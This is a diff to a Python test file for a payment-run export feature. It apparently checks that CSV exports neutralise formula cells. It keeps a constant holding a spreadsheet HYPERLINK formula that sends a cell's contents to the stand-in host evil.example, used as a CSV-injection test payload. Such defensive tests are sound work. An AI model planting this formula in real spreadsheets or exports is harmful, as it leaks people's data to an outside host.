@@ -22,6 +22,7 @@ from server.services import staff
 from server.services.audit import Actor
 from server.services.errors import DomainError
 from tests.conftest import beneficiary_body, check_character
+from tests.support.jobs import payment_run
 
 FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"点击")'
 
@@ -82,11 +83,12 @@ def _formula_person(api, world) -> None:
     assert api.as_("supervisor_a").post("/api/v1/beneficiaries", json=body).status_code == 201
 
 
+@pytest.mark.usefixtures("celery_worker")
 def test_payment_run_exports_neutralise_formula_cells(api, world):
     _formula_person(api, world)
     supervisor = api.as_("supervisor_a")
     period = datetime.now(UTC).strftime("%Y-%m")
-    run = supervisor.post("/api/v1/payment-runs", json={"period": period, "region": world["township_a"]}).json()
+    run = payment_run(supervisor, period, world["township_a"])
     exported = supervisor.get(f"/api/v1/payment-runs/{run['id']}/export", params={"format": "csv"})
     rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
     assert rows[1][1] == "'" + FORMULA
